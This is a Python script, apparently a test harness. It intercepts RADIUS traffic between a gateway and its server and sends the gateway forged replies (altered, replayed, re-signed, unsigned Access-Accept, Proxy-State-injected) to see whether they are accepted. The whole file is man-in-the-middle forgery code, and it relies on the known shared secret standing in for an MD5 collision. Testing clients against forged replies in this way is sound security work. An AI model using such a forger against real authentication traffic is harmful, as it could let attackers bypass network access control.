"""Sits between the gateway and a RADIUS server, as somebody on the path may: passes requests on and forges replies.

forger.py LISTEN_PORT SERVER_PORT SECRET PASS: for each reply of the server it sends copies that are altered, replayed, signed for another
identifier, unsigned and with Proxy-State, and, if PASS is 1, the true reply last. SECRET stands for a found MD5 collision: only so can a forgery
bear a valid Response Authenticator. Message-Authenticator is never forged: HMAC does not fall to collisions.
"""

import hashlib
import hmac
import select
import socket
import sys

MESSAGE_AUTHENTICATOR, PROXY_STATE = 80, 33


def attributes(packet):
    at = 20
    while at + 2 <= len(packet):
        yield packet[at], packet[at : at + packet[at + 1]]
        at += packet[at + 1]


def built(code, identifier, request, secret, body, sign):
    """A reply whose Response Authenticator is right; with a right Message-Authenticator too if `sign`."""
    body = b"".join(attribute for number, attribute in body if number != MESSAGE_AUTHENTICATOR)
    if sign:
        body = bytes([MESSAGE_AUTHENTICATOR, 18]) + bytes(16) + body
    head = bytes([code, identifier]) + (20 + len(body)).to_bytes(2, "big")
    if sign:
        digest = hmac.new(secret, head + request[4:20] + body, hashlib.md5).digest()
        body = body[:2] + digest + body[18:]
    return head + hashlib.md5(head + request[4:20] + body + secret).digest() + body


def forgeries(request, reply, secret, former):
    body = list(attributes(reply))
    code, identifier = reply[0], reply[1]
    yield reply[:4] + bytes([reply[4] ^ 1]) + reply[5:]
    yield reply[:-1]
    yield b"\x02"
    yield built(code, identifier ^ 0x80, request, secret, body, True)
    yield built(2, identifier, request, secret, [], False)
    yield built(code, identifier, request, secret, [*body, (PROXY_STATE, bytes([PROXY_STATE, 5]) + b"abc")], True)
    yield built(4, identifier, request, secret, body, True)
    yield from former


def main():
    listen, server, secret, passes = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3].encode(), sys.argv[4] == "1"
    outside = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    outside.bind(("", listen))
    inside, stranger = socket.socket(socket.AF_INET, socket.SOCK_DGRAM), socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    inside.connect(("10.99.20.10", server))
    asked, former = {}, {}
    print("ready", flush=True)
    while True:
        for ready in select.select([outside, inside], [], [])[0]:
            if ready is outside:
                request, gateway = outside.recvfrom(4096)
                asked[request[1]] = (request, gateway)
                inside.send(request)
                continue
            reply = inside.recv(4096)
            request, gateway = asked[reply[1]]
            stranger.sendto(reply, gateway)
            # A repeated request is answered with the same reply: replayed are those to other requests alone.
            others = [earlier for authenticator, earlier in former.items() if authenticator != request[4:20]]
            for forged in forgeries(request, reply, secret, others[-1:]):
                outside.sendto(forged, gateway)
            former[request[4:20]] = reply
            if passes:
                outside.sendto(reply, gateway)


if __name__ == "__main__":
    main()
